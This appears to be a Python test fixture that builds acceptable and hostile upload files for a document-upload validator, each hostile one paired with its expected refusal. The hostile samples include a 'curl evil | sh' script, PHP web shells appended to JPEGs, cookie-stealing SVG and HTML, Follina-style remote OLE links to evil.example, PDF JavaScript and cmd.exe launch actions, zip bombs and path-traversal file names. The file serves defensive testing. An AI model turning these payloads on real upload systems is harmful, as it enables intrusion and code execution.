"""Good and bad files for the upload checks, all built in code (no binary files in git).

Each bad file names the refusal it must get. Builders are functions so that importing this
module costs nothing; the corpus keeps every file under 1 MB (the tests lower
UPLOAD_MAX_BYTES to 1 MiB), except the one that must be too large.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from PIL import Image
from PIL.PngImagePlugin import PngInfo

from documents.uploads import refusals

from .cfb import compound_file

TEST_LIMIT = 1024 * 1024
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
XLSM_MAIN = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
PPTX_MAIN = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


# --- Good files ------------------------------------------------------------------------------


def pdf(*objects: bytes, trailer: bytes = b"", header: bytes = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"):
    """A PDF with a correct cross-reference table; objects are numbered from 1."""
    if not objects:
        objects = (
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
            b" /Resources << /Font << /F1 5 0 R >> >> >>",
            _stream(b"BT /F1 18 Tf 72 760 Td (Referral notes) Tj ET"),
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        )
    out = io.BytesIO()
    out.write(header)
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R %s>>\n" % (len(objects) + 1, trailer))
    out.write(b"startxref\n%d\n%%%%EOF\n" % xref)
    return out.getvalue()


def _stream(data: bytes, dictionary: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n%s\nendstream" % (len(data), dictionary, data)


def pdf_with_object_stream(hidden: bytes = b"", filters: bytes = b"/Filter /FlateDecode") -> bytes:
    """A PDF 1.5 whose catalog and pages sit compressed in an object stream."""
    inside = [
        b"<< /Type /Catalog /Pages 2 0 R " + hidden + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    ]
    offsets, body = [], b""
    for number, item in enumerate(inside, start=1):
        offsets.append(b"%d %d" % (number, len(body)))
        body += item + b"\n"
    index = b" ".join(offsets) + b"\n"
    data = index + body
    if b"FlateDecode" in filters:
        data = zlib.compress(data)
    elif b"ASCIIHex" in filters:
        data = data.hex().encode() + b">"
    # The filter comes before /Type, as many writers order it: the check must look back.
    dictionary = filters + b" /Type /ObjStm /N 2 /First %d " % len(index)
    return pdf(
        _stream(data, dictionary),
        b"<< /Type /Page /MediaBox [0 0 595 842] >>",
        header=b"%PDF-1.5\n",
    )


def weasyprint_pdf() -> bytes:
    from weasyprint import HTML

    return HTML(string="<h1>Care plan</h1><p>Reviewed with the family.</p>").write_pdf()


def ooxml(main_part: str, main_type: str, parts: dict[str, bytes] | None = None, *,
          types: str = "", relationships: str = "") -> bytes:  # fmt: skip
    """A minimal Office Open XML package (docx, xlsx, ...) built with zipfile."""
    folder = main_part.split("/")[0]
    content_types = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{main_part}" ContentType="{main_type}"/>{types}</Types>'
    )
    package_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{REL}/officeDocument" Target="{main_part}"/>'
        "</Relationships>"
    )
    part_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId9" Type="{REL}/hyperlink" Target="https://example.org/" '
        f'TargetMode="External"/>{relationships}</Relationships>'
    )
    main = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        "<w:body><w:p><w:r><w:t>Notes from the visit &lt;with care&gt;</w:t></w:r></w:p>"
        "</w:body></w:document>"
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", content_types)
        package.writestr("_rels/.rels", package_rels)
        package.writestr(main_part, main)
        package.writestr(f"{folder}/_rels/{main_part.split('/')[-1]}.rels", part_rels)
        for name, data in (parts or {}).items():
            package.writestr(name, data)
    return buffer.getvalue()


def docx(parts=None, **kwargs) -> bytes:
    return ooxml("word/document.xml", DOCX_MAIN, parts, **kwargs)


def xlsx() -> bytes:
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["Child", "Review date"])
    sheet.append(["A.B.", "10-Aug-2021"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def fib(flags: int = 0) -> bytes:
    """The start of a Word 97-2003 WordDocument stream (its File Information Block)."""
    return struct.pack("<HHHHHH", 0xA5EC, 0x00C1, 0, 0x0809, 0, flags) + b"\x00" * 500


def legacy_doc(extra: dict[str, bytes] | None = None, flags: int = 0) -> bytes:
    return compound_file({"WordDocument": fib(flags), "1Table": b"\x00" * 64, **(extra or {})})


def jpeg(*, gps: bool = False, orientation: int | None = None, comment: bytes = b"") -> bytes:
    image = Image.new("RGB", (64, 48), (200, 30, 30))
    exif = Image.Exif()
    if orientation:
        exif[0x0112] = orientation
    if gps:
        exif[0x010F] = "Phone maker"
        exif[0x0110] = "Phone model"
        exif.get_ifd(0x8825).update({1: "N", 2: (51.0, 30.0, 12.5), 3: "W", 4: (0.0, 7.0, 39.0)})
    buffer = io.BytesIO()
    options = {"comment": comment} if comment else {}
    image.save(buffer, "JPEG", exif=exif, quality=90, **options)
    return buffer.getvalue()


def png(*, text: dict[str, str] | None = None) -> bytes:
    image = Image.new("RGBA", (40, 30), (20, 120, 200, 128))
    info = PngInfo()
    for key, value in (text or {}).items():
        info.add_text(key, value)
    buffer = io.BytesIO()
    image.save(buffer, "PNG", pnginfo=info)
    return buffer.getvalue()


@dataclass(frozen=True)
class GoodFile:
    id: str
    name: str
    build: Callable[[], bytes]
    kind: str
    extension: str


GOOD_FILES = [
    GoodFile("docx", "Visit notes.docx", docx, "word", ".docx"),
    GoodFile("xlsx-openpyxl", "Reviews.xlsx", xlsx, "excel", ".xlsx"),
    GoodFile("doc-legacy", "Old assessment.doc", legacy_doc, "word", ".doc"),
    GoodFile("pdf-hand-written", "Referral.pdf", pdf, "pdf", ".pdf"),
    GoodFile("pdf-object-stream", "Compressed.pdf", pdf_with_object_stream, "pdf", ".pdf"),
    GoodFile(
        "pdf-with-a-web-link",
        "Leaflet.pdf",
        lambda: pdf(
            _object(b"/Type /Annot /Subtype /Link", b"/A << /S /URI /URI (https://example.org) >>")
        ),
        "pdf",
        ".pdf",
    ),  # fmt: skip
    GoodFile("pdf-weasyprint", "Care plan.PDF", weasyprint_pdf, "pdf", ".pdf"),
    GoodFile("jpeg", "photo.jpg", jpeg, "image", ".jpg"),
    GoodFile("jpeg-exif", "IMG_0001.JPEG", lambda: jpeg(gps=True, orientation=6), "image", ".jpeg"),
    GoodFile("png", "diagram.png", png, "image", ".png"),
    GoodFile("png-text", "scan.png", lambda: png(text={"Author": "J Smith"}), "image", ".png"),
]


# --- Bad files -------------------------------------------------------------------------------


def _zip(entries: dict[str, bytes], method=zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _patch_central_directory(data: bytes, entry_name: bytes, **fields: int) -> bytes:
    """Change an entry's flag bits or sizes in the zip's central directory and local header."""
    data = bytearray(data)
    central = {"flags": (8, "<H"), "compressed": (20, "<I"), "size": (24, "<I")}
    local = {"flags": (6, "<H"), "compressed": (18, "<I"), "size": (22, "<I")}
    for signature, layout, name_at in ((b"PK\x01\x02", central, 46), (b"PK\x03\x04", local, 30)):
        position = data.find(signature)
        while position != -1:
            if data[position + name_at : position + name_at + len(entry_name)] == entry_name:
                for field, value in fields.items():
                    offset, fmt = layout[field]
                    if field == "flags":
                        value |= struct.unpack_from(fmt, data, position + offset)[0]
                    struct.pack_into(fmt, data, position + offset, value)
            position = data.find(signature, position + 4)
    return bytes(data)


def _many_parts() -> bytes:
    return docx({f"word/media/part{number}.xml": b"<a/>" for number in range(2001)})


def _bomb_ratio() -> bytes:
    return docx({"word/media/image1.png": b"\x00" * (2 * 1024 * 1024)})


def _bomb_declared() -> bytes:
    data = docx({"word/media/big.bin": b"small"})
    return _patch_central_directory(data, b"word/media/big.bin", size=400 * 1024 * 1024)


def _lying_size() -> bytes:
    data = docx({"word/media/image2.png": bytes(range(256)) * 400})
    return _patch_central_directory(data, b"word/media/image2.png", size=10)


def _zip_encrypted() -> bytes:
    return _patch_central_directory(docx(), b"word/document.xml", flags=0x1)


def _encrypted_ooxml() -> bytes:
    return compound_file(
        {
            "EncryptionInfo": b"\x04\x00\x04\x00\x40\x00\x00\x00<?xml version='1.0'?>",
            "EncryptedPackage": b"\x00" * 5000,
            "\x06DataSpaces/Version": b"\x3c\x00\x00\x00",
        }
    )


def _png_bomb() -> bytes:
    ihdr = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0)
    chunk = struct.pack(">I", 13) + b"IHDR" + ihdr + struct.pack(">I", zlib.crc32(b"IHDR" + ihdr))
    return b"\x89PNG\r\n\x1a\n" + chunk + png()[33:]


def _jpeg_bomb() -> bytes:
    data = bytearray(jpeg())
    frame = data.find(b"\xff\xc0")
    struct.pack_into(">HH", data, frame + 5, 60_000, 60_000)
    return bytes(data)


def _bad_png_crc() -> bytes:
    data = bytearray(png())
    data[29] ^= 0xFF  # inside IHDR's CRC
    return bytes(data)


def _html_in_png_text() -> bytes:
    return png(text={"Comment": "%PDF-1.4 1 0 obj << >> endobj"})


def _object(*pairs: bytes) -> bytes:
    return b"<< " + b" ".join(pairs) + b" >>"


@dataclass(frozen=True)
class BadFile:
    id: str
    name: str
    build: Callable[[], bytes]
    message: str | Callable[[], str]
    code: str

    def expected_message(self) -> str:
        return self.message() if callable(self.message) else self.message


_ELF = (
    b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + b"\x00" * 200
)
_PE = (
    b"MZ\x90\x00\x03"
    + b"\x00" * 59
    + b"This program cannot be run in DOS mode.\r\r\n$"
    + b"\0" * 100
)
_MACHO = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00" + b"\x00" * 100
_HTML = b"<!DOCTYPE html><html><body><script>fetch('/steal')</script></body></html>"
_SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.cookie)</script></svg>"
)
_WORD = "a Word document"
_EXECUTABLE = refusals.EXECUTABLE

BAD_FILES = [
    # Programs and scripts with innocent names
    BadFile("elf-as-pdf", "report.pdf", lambda: _ELF, _EXECUTABLE, "executable"),
    BadFile("pe-as-docx", "minutes.docx", lambda: _PE, _EXECUTABLE, "executable"),
    BadFile("macho-as-jpg", "photo.jpg", lambda: _MACHO, _EXECUTABLE, "executable"),
    BadFile(
        "wasm-as-png",
        "chart.png",
        lambda: b"\x00asm\x01\x00\x00\x00" + b"\0" * 40,
        _EXECUTABLE,
        "executable",
    ),  # fmt: skip
    BadFile(
        "shell-script-as-pdf",
        "letter.pdf",
        lambda: b"#!/bin/sh\ncurl evil | sh\n",
        refusals.SCRIPT,
        "script",
    ),  # fmt: skip
    BadFile(
        "python-script-as-xlsx",
        "data.xlsx",
        lambda: b"#!/usr/bin/env python3\nimport os\nos.system('id')\n",
        refusals.SCRIPT,
        "script",
    ),  # fmt: skip
    # Web pages and SVG, whatever the name
    BadFile("html-as-pdf", "statement.pdf", lambda: _HTML, refusals.HTML, "html"),
    BadFile(
        "html-with-bom-as-docx",
        "plan.docx",
        lambda: b"\xef\xbb\xbf\n  " + _HTML.lower(),
        refusals.HTML,
        "html",
    ),  # fmt: skip
    BadFile("svg-with-script-as-png", "logo.png", lambda: _SVG, refusals.SVG, "svg"),
    BadFile(
        "svg-with-prolog-as-jpg",
        "map.jpg",
        lambda: b'<?xml version="1.0"?>\n' + _SVG,
        refusals.SVG,
        "svg",
    ),  # fmt: skip
    # Polyglots
    BadFile(
        "jpeg-with-html-appended",
        "photo.jpg",
        lambda: jpeg() + _HTML,
        refusals.HIDDEN_CODE,
        "polyglot",
    ),  # fmt: skip
    BadFile(
        "jpeg-with-php-appended",
        "photo.jpg",
        lambda: jpeg() + b"<?php system($_GET['c']); ?>",
        refusals.HIDDEN_CODE,
        "polyglot",
    ),  # fmt: skip
    BadFile(
        "jpeg-with-php-in-comment",
        "photo.jpg",
        lambda: jpeg(comment=b"<?php eval($_POST['x']); ?>"),
        refusals.HIDDEN_CODE,
        "polyglot",
    ),  # fmt: skip
    BadFile(
        "pdf-with-html",
        "form.pdf",
        lambda: pdf().replace(b"%\xe2", b"%" + _HTML + b"\n%"),
        refusals.HIDDEN_CODE,
        "polyglot",
    ),  # fmt: skip
    BadFile(
        "pdf-that-is-also-zip",
        "form.pdf",
        lambda: pdf() + _zip({"a.txt": b"hello"}),
        refusals.HIDDEN_ARCHIVE,
        "polyglot",
    ),  # fmt: skip
    BadFile(
        "png-that-is-also-zip",
        "chart.png",
        lambda: png() + _zip({"run.js": b"x=1"}),
        refusals.HIDDEN_ARCHIVE,
        "polyglot",
    ),  # fmt: skip
    BadFile(
        "png-that-is-also-pdf", "chart.png", _html_in_png_text, refusals.HIDDEN_PDF, "polyglot"
    ),  # fmt: skip
    BadFile(
        "docx-with-data-after-end",
        "notes.docx",
        lambda: docx() + b"\x00" * 64,
        refusals.HIDDEN_CONTENT,
        "polyglot",
    ),  # fmt: skip
    BadFile(
        "docx-with-stored-html-part",
        "notes.docx",
        lambda: _zip_stored_html(),
        refusals.HIDDEN_CODE,
        "polyglot",
    ),  # fmt: skip
    # Macros and active content
    BadFile(
        "docx-with-vba-project",
        "notes.docx",
        lambda: docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0VBA"}),
        refusals.MACROS,
        "macros",
    ),  # fmt: skip
    BadFile(
        "docm-renamed-docx",
        "notes.docx",
        lambda: ooxml("word/document.xml", DOCM_MAIN),
        refusals.MACROS,
        "macros",
    ),  # fmt: skip
    BadFile(
        "xlsm-renamed-xlsx",
        "budget.xlsx",
        lambda: ooxml("xl/workbook.xml", XLSM_MAIN),
        refusals.MACROS,
        "macros",
    ),  # fmt: skip
    BadFile(
        "xlsx-with-excel4-macro-sheet",
        "budget.xlsx",
        lambda: ooxml("xl/workbook.xml", XLSX_MAIN, {"xl/macrosheets/sheet1.xml": b"<x/>"}),
        refusals.MACROS,
        "macros",
    ),  # fmt: skip
    BadFile(
        "docx-with-activex",
        "form.docx",
        lambda: docx({"word/activeX/activeX1.xml": b"<ax/>"}),
        refusals.MACROS,
        "macros",
    ),  # fmt: skip
    BadFile(
        "docx-with-embedded-docm",
        "notes.docx",
        lambda: docx({"word/embeddings/inner.docm": b"PK"}),
        refusals.MACROS,
        "macros",
    ),  # fmt: skip
    BadFile(
        "doc-with-macros",
        "old.doc",
        lambda: legacy_doc({"Macros/VBA/dir": b"\x01" * 10, "Macros/VBA/ThisDocument": b"x"}),
        refusals.MACROS,
        "macros",
    ),  # fmt: skip
    # Hidden programs and remote content
    BadFile(
        "docx-with-embedded-exe",
        "notes.docx",
        lambda: docx({"word/embeddings/setup.exe": _PE}),
        refusals.HIDDEN_PROGRAM,
        "hidden_program",
    ),  # fmt: skip
    BadFile(
        "docx-with-program-bytes",
        "notes.docx",
        lambda: docx({"word/media/image9.png": _PE}),
        refusals.HIDDEN_PROGRAM,
        "hidden_program",
    ),  # fmt: skip
    BadFile(
        "docx-with-ole-package",
        "notes.docx",
        lambda: docx({"word/embeddings/oleObject1.bin": compound_file({"\x01Ole10Native": _PE})}),
        refusals.HIDDEN_PROGRAM,
        "hidden_program",
    ),  # fmt: skip
    BadFile(
        "doc-with-ole-package",
        "old.doc",
        lambda: legacy_doc({"ObjectPool/_1234/\x01Ole10Native": _PE}),
        refusals.HIDDEN_PROGRAM,
        "hidden_program",
    ),  # fmt: skip
    BadFile(
        "docx-remote-template",
        "notes.docx",
        lambda: docx(
            relationships=f'<Relationship Id="rId7" Type="{REL}/attachedTemplate" '
            'Target="https://evil.example/t.dotm" TargetMode="External"/>'
        ),
        refusals.EXTERNAL_CONTENT,
        "external_content",
    ),  # fmt: skip
    BadFile(
        "docx-follina-ole-link",
        "notes.docx",
        lambda: docx(
            relationships=f'<Relationship Id="rId8" Type="{REL}/oleObject" '
            'Target="mhtml:https://evil.example/x.html!x-usc:https://evil.example" '
            'TargetMode="External"/>'
        ),
        refusals.EXTERNAL_CONTENT,
        "external_content",
    ),  # fmt: skip
    # Zip bombs disguised as Word documents
    BadFile("zip-bomb-ratio", "notes.docx", _bomb_ratio, refusals.EXPANDS, "zip_bomb"),
    BadFile(
        "zip-bomb-declared-size", "notes.docx", _bomb_declared, refusals.EXPANDS, "zip_bomb"
    ),  # fmt: skip
    BadFile(
        "zip-bomb-many-parts", "notes.docx", _many_parts, refusals.TOO_MANY_PARTS, "zip_bomb"
    ),  # fmt: skip
    BadFile(
        "zip-lying-about-size",
        "notes.docx",
        _lying_size,
        refusals.damaged("a Word document or Excel spreadsheet"),
        "damaged",
    ),  # fmt: skip
    # Password-protected
    BadFile("encrypted-docx", "notes.docx", _encrypted_ooxml, refusals.PASSWORD, "password"),
    BadFile("encrypted-xlsx", "budget.xlsx", _encrypted_ooxml, refusals.PASSWORD, "password"),
    BadFile("zip-encrypted-docx", "notes.docx", _zip_encrypted, refusals.PASSWORD, "password"),
    BadFile(
        "encrypted-doc", "old.doc", lambda: legacy_doc(flags=0x0100), refusals.PASSWORD, "password"
    ),  # fmt: skip
    BadFile(
        "encrypted-pdf",
        "bank.pdf",
        lambda: pdf(trailer=b"/Encrypt << /Filter /Standard /V 2 /R 3 /O <00> /U <00> >> "),
        refusals.PASSWORD,
        "password",
    ),  # fmt: skip
    # PDFs that run code, start programs or carry files
    BadFile(
        "pdf-javascript",
        "form.pdf",
        lambda: pdf(
            _object(
                b"/Type /Catalog /Pages 2 0 R",
                b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>",
            )
        ),
        refusals.PDF_JAVASCRIPT,
        "pdf_javascript",
    ),  # fmt: skip
    BadFile(
        "pdf-javascript-escaped-name",
        "form.pdf",
        lambda: pdf(
            _object(b"/Type /Catalog", b"/OpenAction << /S /J#61va#53cript /J#53 3 0 R >>")
        ),
        refusals.PDF_JAVASCRIPT,
        "pdf_javascript",
    ),  # fmt: skip
    BadFile(
        "pdf-javascript-in-object-stream",
        "form.pdf",
        lambda: pdf_with_object_stream(b"/OpenAction << /S /JavaScript /JS (x) >> "),
        refusals.PDF_JAVASCRIPT,
        "pdf_javascript",
    ),  # fmt: skip
    BadFile(
        "pdf-launch",
        "form.pdf",
        lambda: pdf(
            _object(b"/Type /Catalog", b"/OpenAction << /S /Launch /Win << /F (cmd.exe) >> >>")
        ),
        refusals.PDF_LAUNCH,
        "pdf_launch",
    ),  # fmt: skip
    BadFile(
        "pdf-xfa-form",
        "form.pdf",
        lambda: pdf(_object(b"/Type /Catalog", b"/AcroForm << /Fields [] /XFA 3 0 R >>")),
        refusals.PDF_XFA,
        "pdf_xfa",
    ),  # fmt: skip
    BadFile(
        "pdf-additional-actions",
        "form.pdf",
        lambda: pdf(_object(b"/Type /Page /Parent 2 0 R", b"/AA << /O 4 0 R >>")),
        refusals.PDF_ACTIONS,
        "pdf_actions",
    ),  # fmt: skip
    BadFile(
        "pdf-additional-actions-escaped-name",
        "form.pdf",
        lambda: pdf(_object(b"/Type /Page /Parent 2 0 R", b"/#41A << /C 4 0 R >>")),
        refusals.PDF_ACTIONS,
        "pdf_actions",
    ),  # fmt: skip
    BadFile(
        "pdf-submit-form",
        "form.pdf",
        lambda: pdf(
            _object(
                b"/Type /Annot /Subtype /Widget", b"/A << /S /SubmitForm /F (https://x.test) >>"
            )
        ),
        refusals.PDF_ACTIONS,
        "pdf_actions",
    ),  # fmt: skip
    BadFile(
        "pdf-go-to-remote-file",
        "form.pdf",
        lambda: pdf(
            _object(b"/Type /Catalog", b"/OpenAction << /S /GoToR /F (\\\\host\\x.pdf) >>")
        ),
        refusals.PDF_ACTIONS,
        "pdf_actions",
    ),  # fmt: skip
    BadFile(
        "pdf-go-to-embedded-file",
        "form.pdf",
        lambda: pdf(_object(b"/Type /Catalog", b"/OpenAction << /S /GoToE /T << /R /C >> >>")),
        refusals.PDF_ACTIONS,
        "pdf_actions",
    ),  # fmt: skip
    BadFile(
        "pdf-import-data-in-object-stream",
        "form.pdf",
        lambda: pdf_with_object_stream(b"/OpenAction << /S /ImportData /F (data.fdf) >> "),
        refusals.PDF_ACTIONS,
        "pdf_actions",
    ),  # fmt: skip
    BadFile(
        "pdf-embedded-file",
        "form.pdf",
        lambda: pdf(
            _object(b"/Type /Catalog", b"/Names << /EmbeddedFiles << /Names [(a.exe) 2 0 R] >> >>"),
            _object(b"/Type /Filespec /F (a.exe) /EF << /F 3 0 R >>"),
            _stream(b"MZ", b"/Type /EmbeddedFile "),
        ),
        refusals.PDF_EMBEDDED,
        "pdf_embedded_file",
    ),  # fmt: skip
    BadFile(
        "pdf-object-stream-odd-filter",
        "form.pdf",
        lambda: pdf_with_object_stream(filters=b"/Filter /ASCIIHexDecode"),
        refusals.PDF_UNCHECKABLE,
        "pdf_uncheckable",
    ),  # fmt: skip
    # Allowed formats with the wrong name
    BadFile(
        "png-named-pdf",
        "scan.pdf",
        png,
        refusals.wrong_extension("a PNG image", ".pdf", ".png"),
        "extension",
    ),  # fmt: skip
    BadFile(
        "pdf-named-docx",
        "letter.docx",
        pdf,
        refusals.wrong_extension("a PDF", ".docx", ".pdf"),
        "extension",
    ),  # fmt: skip
    BadFile(
        "docx-named-xlsx",
        "budget.xlsx",
        docx,
        refusals.wrong_extension(_WORD, ".xlsx", ".docx"),
        "extension",
    ),  # fmt: skip
    BadFile("jpeg-without-extension", "photo", jpeg, refusals.NO_EXTENSION, "extension"),
    # Other kinds of file
    BadFile(
        "plain-zip-as-docx",
        "notes.docx",
        lambda: _zip({"notes.txt": b"hello"}),
        refusals.ARCHIVE,
        "archive",
    ),  # fmt: skip
    BadFile(
        "odt-as-docx",
        "notes.docx",
        lambda: _zip(
            {
                "mimetype": b"application/vnd.oasis.opendocument.text",
                "content.xml": b"<office:document-content/>",
            },
            zipfile.ZIP_STORED,
        ),
        refusals.OPEN_DOCUMENT,
        "open_document",
    ),  # fmt: skip
    BadFile(
        "pptx-as-docx",
        "slides.docx",
        lambda: ooxml("ppt/presentation.xml", PPTX_MAIN),
        refusals.POWERPOINT,
        "powerpoint",
    ),  # fmt: skip
    BadFile(
        "xls-legacy",
        "budget.xls",
        lambda: compound_file({"Workbook": b"\x09\x08" * 8}),
        refusals.OLD_EXCEL,
        "old_excel",
    ),  # fmt: skip
    BadFile(
        "gif-as-png",
        "animation.png",
        lambda: b"GIF89a\x01\x00\x01\x00\x00\x00\x00;",
        refusals.other_image("GIF"),
        "other_image",
    ),  # fmt: skip
    BadFile(
        "text-as-pdf",
        "notes.pdf",
        lambda: b"Just some notes about the visit.\n" * 5,
        refusals.TEXT,
        "text",
    ),  # fmt: skip
    BadFile(
        "rtf-as-doc",
        "letter.doc",
        lambda: rb"{\rtf1\ansi\deff0 {\fonttbl {\f0 Arial;}}Hi}",
        refusals.RTF,
        "rtf",
    ),  # fmt: skip
    # Damaged and oversized pictures
    BadFile(
        "jpeg-truncated",
        "photo.jpg",
        lambda: jpeg()[:300],
        refusals.damaged("a JPG image"),
        "damaged",
    ),  # fmt: skip
    BadFile(
        "png-bad-crc", "chart.png", _bad_png_crc, refusals.damaged("a PNG image"), "damaged"
    ),  # fmt: skip
    BadFile(
        "jpeg-60000-by-60000", "photo.jpg", _jpeg_bomb, refusals.image_too_big(50), "image_too_big"
    ),  # fmt: skip
    BadFile(
        "png-100000-by-100000", "chart.png", _png_bomb, refusals.image_too_big(50), "image_too_big"
    ),  # fmt: skip
    # Empty, too big, hostile names
    BadFile("empty", "empty.pdf", lambda: b"", refusals.EMPTY, "empty"),
    BadFile(
        "too-large", "big.pdf", lambda: pdf() + b"%" * TEST_LIMIT, refusals.too_large, "too_large"
    ),  # fmt: skip
    BadFile("name-with-null-byte", "report.pdf\x00.exe", pdf, refusals.NAME_NOT_ALLOWED, "name"),
    BadFile(
        "name-with-control-character", "report\x1b[31m.pdf", pdf, refusals.NAME_NOT_ALLOWED, "name"
    ),  # fmt: skip
    BadFile(
        "name-going-up-a-folder",
        "../../etc/cron.d/report.pdf",
        pdf,
        refusals.NAME_NOT_ALLOWED,
        "name",
    ),  # fmt: skip
    BadFile("name-going-up-windows", "..\\..\\boot.pdf", pdf, refusals.NAME_NOT_ALLOWED, "name"),
]


def _zip_stored_html() -> bytes:
    """A .docx with an uncompressed web page part (its bytes are readable in the file)."""
    buffer = io.BytesIO(docx())
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_STORED) as package:
        package.writestr("word/afchunk.html", _HTML)
    return buffer.getvalue()
